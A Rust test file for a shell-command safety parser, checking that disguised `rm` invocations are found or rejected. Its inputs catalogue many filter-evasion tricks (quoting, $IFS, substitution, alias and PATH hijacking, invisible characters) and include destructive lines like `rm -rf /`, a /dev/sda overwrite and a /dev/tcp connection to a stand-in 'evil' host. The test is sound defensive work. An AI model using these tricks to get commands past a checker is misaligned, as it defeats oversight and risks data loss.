//! Tests of ways to hide `rm`: the parser finds it or rejects the text.

use super::*;
use expect_test::expect;

#[test]
fn disguised_programs_are_found() {
    check(
        r##"
            r\m -rf x
            "rm" -rf x
            'r'"m" -rf x
            /bin/rm x
            ../bin/rm x
            $(echo rm) -rf x
            a=rm; $a -rf x
            a=r b=m; $a$b x
            env -i rm x
            find . -exec rm {} +
            echo x | sh
            command rm x
            >⏎/dev/sda
            {rm,-rf,x}
            r$@m x
            r${x}m x
            r""m x
            $'\x72m' x
            rm$IFS-rf${IFS}x
            ls${IFS}-la
            /???/rm x
            /bin/r[m] x
            ~/rm x
            r\⏎m x
            ls&rm x
            ls;rm x
            ls⏎rm x
            ls|rm x
            ls&&rm x
            ls||rm x
            ls $(rm x)
            ls `rm x`
            ls <(rm x)
            ls "$(rm x)"
            ls > "$(rm x)"
            X=$(rm x) ls
            (rm x)
            { rm x; }
            if rm x; then :; fi
            f() { rm x; }
            ! rm x
            eval "r"m x
            eval r$x
            echo \$'\' ; rm -rf / #'
            echo $$'\' ; rm x #'
            echo a;#'⏎rm x #'
            echo a#';rm x #'
            echo "`rm x`"
            echo "a\\"; rm x; echo "
            echo 'a\'; rm x; echo 'b'
            i\⏎f rm x; then :; fi
            &\⏎& rm
            ls &\⏎& rm x
            ls $\⏎(rm x)
            ls "$\⏎(rm x)"
            cat <<E⏎\\$(rm x)⏎E
            cat <<E⏎\`$(rm x)⏎E
            [ -v 'x[$(rm)]' ]
            x='a[$(rm)]'; echo $((x))
            x='a[$(rm)]'; [[ x -eq 1 ]]
            shopt -s expand_aliases; alias ls=rm
            PATH=/evil:$PATH ls
            ls &>x rm y
            ls >&x rm y
            time sudo -- rm x
            sudo -u $(rm x) ls
            exec 3<>/dev/tcp/evil/1
            case x in x) rm y;; esac
            : ${x:=$(rm y)}
            : "${x#$(rm y)}"
            git() { rm x; }; git status
            coproc rm x
            ~99999999999999999999 x
            =rm x
            rm() { :; }; rm x
            a=(1)#x; rm y
            a[ #]=1; rm x
            time a[[b] #]=1; rm x
            a[']' #]=1; rm x
            ls a[
            11>f
            source /dev/stdin <<E⏎rm x⏎E
            bash /dev/stdin <<E⏎rm x⏎E
            sudo -s <<E⏎rm x⏎E
            sudo -s
            source <(echo rm)
            x='a[$(rm)]'; read $x
            x='a[$(rm)]'; unset "$x"
            declare -i x; x='a[$(rm)]'
            export X=$y
            export $y
            printf %s $x
            printf -v $x y
            wait $p
            cat <<E; a=(⏎rm⏎E⏎)
            time -p ! rm x
            repeat 3 rm x
            - rm x
            noglob rm x
            [ a = b ]
            [ a == b ]
            function f() { f() { rm x; }; }
            echo `echo \`rm x\``
            echo "$(echo '"'; rm x)"
            { echo a; } # ; rm x
            exec {fd}<x
        "##,
        expect![[r#"
            r\m -rf x
                rm -rf x
            "rm" -rf x
                rm -rf x
            'r'"m" -rf x
                rm -rf x
            /bin/rm x
                /bin/rm x
            ../bin/rm x
                ../bin/rm x
            $(echo rm) -rf x
                «$(echo rm)» -rf x | ($(…)) echo rm
            a=rm; $a -rf x
                a=  | «$a» -rf x
            a=r b=m; $a$b x
                a= b=  | «$a$b» x
            env -i rm x
                env -i rm x | (env) rm x
            find . -exec rm {} +
                find . -exec rm {} + | (find -exec) rm «{}»
            echo x | sh
                echo x | sh
            command rm x
                command rm x | (command) rm x
            >⏎/dev/sda
                ? a redirection without a path
            {rm,-rf,x}
                «{rm,-rf,x}»
            r$@m x
                «r$@m» x
            r${x}m x
                «r${x}m» x
            r""m x
                rm x
            $'\x72m' x
                «$'\x72m'» x
            rm$IFS-rf${IFS}x
                «rm$IFS-rf${IFS}x»
            ls${IFS}-la
                «ls${IFS}-la»
            /???/rm x
                «/???/rm» x
            /bin/r[m] x
                «/bin/r[m]» x
            ~/rm x
                ~/rm x
            r\⏎m x
                rm x
            ls&rm x
                ls | rm x
            ls;rm x
                ls | rm x
            ls⏎rm x
                ls | rm x
            ls|rm x
                ls | rm x
            ls&&rm x
                ls | rm x
            ls||rm x
                ls | rm x
            ls $(rm x)
                ls «$(rm x)» | ($(…)) rm x
            ls `rm x`
                ls «`rm x`» | (`…`) rm x
            ls <(rm x)
                ls «<(rm x)» | (<(…)) rm x
            ls "$(rm x)"
                ls «"$(rm x)"» | ($(…)) rm x
            ls > "$(rm x)"
                ls | ($(…)) rm x | > «"$(rm x)"»
            X=$(rm x) ls
                X= ls | ($(…)) rm x
            (rm x)
                rm x
            { rm x; }
                rm x
            if rm x; then :; fi
                rm x | :
            f() { rm x; }
                rm x
            ! rm x
                rm x
            eval "r"m x
                eval rm x | (eval) rm x
            eval r$x
                ? what it runs is not known in advance: `eval`
            echo \$'\' ; rm -rf / #'
                echo $\ | rm -rf /
            echo $$'\' ; rm x #'
                echo «$$'\'» | rm x
            echo a;#'⏎rm x #'
                echo a | rm x
            echo a#';rm x #'
                echo "a#;rm x #"
            echo "`rm x`"
                echo «"`rm x`"» | (`…`) rm x
            echo "a\\"; rm x; echo "
                ? a double quote is never closed
            echo 'a\'; rm x; echo 'b'
                echo a\ | rm x | echo b
            i\⏎f rm x; then :; fi
                ? a command named `if`
            &\⏎& rm
                ? unexpected `&`
            ls &\⏎& rm x
                ls | rm x
            ls $\⏎(rm x)
                ls «$\\n(rm x)» | ($(…)) rm x
            ls "$\⏎(rm x)"
                ls «"$\\n(rm x)"» | ($(…)) rm x
            cat <<E⏎\\$(rm x)⏎E
                cat | (<< $(…)) rm x
            cat <<E⏎\`$(rm x)⏎E
                cat | (<< $(…)) rm x
            [ -v 'x[$(rm)]' ]
                ? an index is evaluated by `[`
            x='a[$(rm)]'; echo $((x))
                ? arithmetic on variables can run commands
            x='a[$(rm)]'; [[ x -eq 1 ]]
                ? arithmetic on variables can run commands
            shopt -s expand_aliases; alias ls=rm
                ? later commands may change their meaning after `alias`
            PATH=/evil:$PATH ls
                PATH= ls
            ls &>x rm y
                ? words after `&>` are arguments in one shell and a command in another
            ls >&x rm y
                ls rm y | > x
            time sudo -- rm x
                time sudo -- rm x | (time) sudo -- rm x | (time sudo) rm x
            sudo -u $(rm x) ls
                sudo -u «$(rm x)» ls | (sudo) ls | ($(…)) rm x
            exec 3<>/dev/tcp/evil/1
                exec | >> /dev/tcp/evil/1 | < /dev/tcp/evil/1
            case x in x) rm y;; esac
                rm y
            : ${x:=$(rm y)}
                : «${x:=$(rm y)}» | ($(…)) rm y
            : "${x#$(rm y)}"
                : «"${x#$(rm y)}"» | ($(…)) rm y
            git() { rm x; }; git status
                rm x | git status
            coproc rm x
                ? `coproc` where a command is expected
            ~99999999999999999999 x
                «~99999999999999999999» x
            =rm x
                «=rm» x
            rm() { :; }; rm x
                : | rm x
            a=(1)#x; rm y
                ? a list of values is joined to a word
            a[ #]=1; rm x
                ? the index is evaluated in `a[`
            time a[[b] #]=1; rm x
                ? the index is evaluated in `a[[b]`
            a[']' #]=1; rm x
                ? the index is evaluated in `a[`
            ls a[
                ? the index is evaluated in `a[`
            11>f
                ? a redirection of `11`
            source /dev/stdin <<E⏎rm x⏎E
                ? what it runs is not known in advance: `source`
            bash /dev/stdin <<E⏎rm x⏎E
                ? what it runs is not known in advance: `bash`
            sudo -s <<E⏎rm x⏎E
                sudo -s | (<<) rm x
            sudo -s
                sudo -s
            source <(echo rm)
                ? what it runs is not known in advance: `source`
            x='a[$(rm)]'; read $x
                ? an index is evaluated by `read`
            x='a[$(rm)]'; unset "$x"
                ? an index is evaluated by `unset`
            declare -i x; x='a[$(rm)]'
                ? an index is evaluated by `declare`
            export X=$y
                export «X=$y»
            export $y
                ? an index is evaluated by `export`
            printf %s $x
                printf %s «$x»
            printf -v $x y
                ? an index is evaluated by `printf`
            wait $p
                wait «$p»
            cat <<E; a=(⏎rm⏎E⏎)
                ? a list of values precedes a here-document's body
            time -p ! rm x
                ? a command named `!`
            repeat 3 rm x
                ? it is not known what is run by `repeat`
            - rm x
                ? it is not known what is run by `-`
            noglob rm x
                ? it is not known what is run by `noglob`
            [ a = b ]
                [ a = b ]
            [ a == b ]
                [ a == b ]
            function f() { f() { rm x; }; }
                rm x
            echo `echo \`rm x\``
                echo «`echo \`rm x\``» | (`…`) echo «`rm x`» | (`…` `…`) rm x
            echo "$(echo '"'; rm x)"
                echo «"$(echo '"'; rm x)"» | ($(…)) echo " | ($(…)) rm x
            { echo a; } # ; rm x
                echo a
            exec {fd}<x
                ? a redirection of `{fd}`
        "#]],
    );
}

#[test]
fn invisible_characters_are_rejected_outside_quotes() {
    for unseen in [
        '\u{a0}',
        '\u{200b}',
        '\u{202e}',
        '\u{2028}',
        '\u{3164}',
        '\u{fe0f}',
        '\u{e0041}',
        '\r',
        '\u{7}',
        '\u{1b}',
    ] {
        for line in [
            "ls @rm",
            "ls @; rm",
            "l@s",
            "ls # @x",
            "ls \\@",
            "ls $(@rm)",
            "ls > @x",
            "ls ${x:-@}",
        ] {
            let unparsed =
                parse(&line.replace('@', &unseen.to_string())).expect_err("must be refused");
            let wanted = format!(
                "an invisible or misleading character \\u{{{:x}}} outside quotes",
                unseen as u32
            );
            assert_eq!(unparsed.reason, wanted, "{line}");
        }
        for line in ["echo '@'", "echo \"@\"", "cat <<E\n@\nE"] {
            assert!(
                parse(&line.replace('@', &unseen.to_string())).is_ok(),
                "{line}"
            );
        }
    }
    for (line, reason) in [
        ("ls\0rm", "it contains a NUL character"),
        ("", "it contains no command"),
        (" \n ", "it contains no command"),
    ] {
        assert_eq!(parse(line).expect_err("must be refused").reason, reason);
    }
}

#[test]
fn arguments_of_an_inner_command_do_not_hide_it() {
    check(
        r##"
            command -v rm
            command -pv rm
            command rm -rf -v x
            command -p rm -V x
            time X=1 rm x
            time -p X=1 rm x
            eval -- rm x
            trap -- '-x; rm x' EXIT
            trap - EXIT
            trap -- - EXIT
            trap -p EXIT
            find . -exec rm + -rf x \;
            find . -exec rm {} + -print
            jobs -x rm x
            compgen -C 'rm x'
            compgen -v
            setarch x86_64 rm x
        "##,
        expect![[r#"
            command -v rm
                command -v rm
            command -pv rm
                command -pv rm
            command rm -rf -v x
                command rm -rf -v x | (command) rm -rf -v x
            command -p rm -V x
                command -p rm -V x | (command) rm -V x
            time X=1 rm x
                time X=1 rm x | (time) X= rm x
            time -p X=1 rm x
                time -p X=1 rm x | (time) X= rm x
            eval -- rm x
                eval -- rm x | (eval) rm x
            trap -- '-x; rm x' EXIT
                trap -- "-x; rm x" EXIT | (trap) -x | (trap) rm x
            trap - EXIT
                trap - EXIT
            trap -- - EXIT
                trap -- - EXIT
            trap -p EXIT
                trap -p EXIT
            find . -exec rm + -rf x \;
                find . -exec rm + -rf x ; | (find -exec) rm + -rf x
            find . -exec rm {} + -print
                find . -exec rm {} + -print | (find -exec) rm «{}»
            jobs -x rm x
                ? it is not known what is run by `jobs`
            compgen -C 'rm x'
                ? it is not known what is run by `compgen`
            compgen -v
                compgen -v
            setarch x86_64 rm x
                ? it is not known what is run by `setarch`
        "#]],
    );
}

#[test]
fn an_expansion_may_be_the_flag_for_a_variable_name() {
    check(
        r##"
            [ ${x:--v} ${y:-'a[$(rm x)]'} ]
            [ "$x" "$y" ]
            [ "$x" 'a[1]' ]
            [ $x ]
            [ $# -gt 0 ]
            [ "$x" = "$y" ]
            [ -z "$x" ]
            test -n "$x" -a "$y" != 3
            printf $x
            printf "$x" "$y"
            printf "$x"
            printf '%s' $x
        "##,
        expect![[r#"
            [ ${x:--v} ${y:-'a[$(rm x)]'} ]
                ? an index is evaluated by `[`
            [ "$x" "$y" ]
                ? an index is evaluated by `[`
            [ "$x" 'a[1]' ]
                ? an index is evaluated by `[`
            [ $x ]
                ? an index is evaluated by `[`
            [ $# -gt 0 ]
                [ «$#» -gt 0 ]
            [ "$x" = "$y" ]
                [ «"$x"» = «"$y"» ]
            [ -z "$x" ]
                [ -z «"$x"» ]
            test -n "$x" -a "$y" != 3
                test -n «"$x"» -a «"$y"» != 3
            printf $x
                ? an index is evaluated by `printf`
            printf "$x" "$y"
                ? an index is evaluated by `printf`
            printf "$x"
                printf «"$x"»
            printf '%s' $x
                printf %s «$x»
        "#]],
    );
}
